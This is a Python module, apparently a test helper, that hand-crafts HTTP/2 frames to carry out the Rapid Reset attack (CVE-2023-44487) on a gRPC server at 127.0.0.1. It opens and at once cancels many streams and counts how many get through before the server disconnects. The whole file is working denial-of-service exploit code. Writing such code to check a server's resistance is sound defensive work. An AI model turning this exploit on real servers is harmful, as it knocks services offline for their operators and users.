"""An HTTP/2 client that opens streams and resets each at once (CVE-2023-44487), written by hand: no library would send that."""

from __future__ import annotations

import asyncio
import struct
from contextlib import suppress
from typing import Final

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x7
_END_STREAM: Final = 0x1
_END_HEADERS: Final = 0x4
_EMPTY_MESSAGE: Final = bytes(5)
_CANCEL: Final = 8


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _literal(name: str, value: str) -> bytes:
    """A header field without index and without Huffman's code."""
    return b"\0" + b"".join(bytes((len(text),)) + text.encode() for text in (name, value))


def _call(method: str) -> bytes:
    target = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "x"}
    fields = target | {"content-type": "application/grpc", "te": "trailers"}
    return b"".join(_literal(*field) for field in fields.items())


async def rapid_resets(port: int, method: str, streams: int, batch: int = 1) -> int:
    """Opens and resets so many streams of a gRPC method on one connection. Streams of a batch larger than 1 have an empty message,
    and are reset when the server has begun with one of them. Returns how many could be written before the server hung up."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    heard = asyncio.Event()
    reading = asyncio.create_task(_read(reader, heard))
    head, sent = _call(method), 0
    with suppress(ConnectionError):
        writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
        while sent < streams and not reading.done():
            numbers = [2 * number + 1 for number in range(sent, sent + batch)]
            heard.clear()
            writer.write(b"".join(_frame(_HEADERS, _END_HEADERS, number, head) for number in numbers))
            if batch > 1:
                writer.write(b"".join(_frame(_DATA, _END_STREAM, number, _EMPTY_MESSAGE) for number in numbers))
                await asyncio.wait({reading, told := asyncio.create_task(heard.wait())}, return_when=asyncio.FIRST_COMPLETED)
                told.cancel()
            writer.write(b"".join(_frame(_RST_STREAM, 0, number, struct.pack(">I", _CANCEL)) for number in numbers))
            sent += batch
            await writer.drain()
    writer.close()
    with suppress(ConnectionError):
        await writer.wait_closed()
    reading.cancel()
    await asyncio.wait({reading})
    return sent


async def _read(reader: asyncio.StreamReader, heard: asyncio.Event) -> None:
    """Until the server says goodbye or closes. What it answers is not acknowledged."""
    with suppress(ConnectionError, asyncio.IncompleteReadError):
        while True:
            head = await reader.readexactly(9)
            await reader.readexactly(int.from_bytes(head[:3], "big"))
            if head[3] == _GOAWAY:
                return
            if head[5:] != bytes(4):
                heard.set()
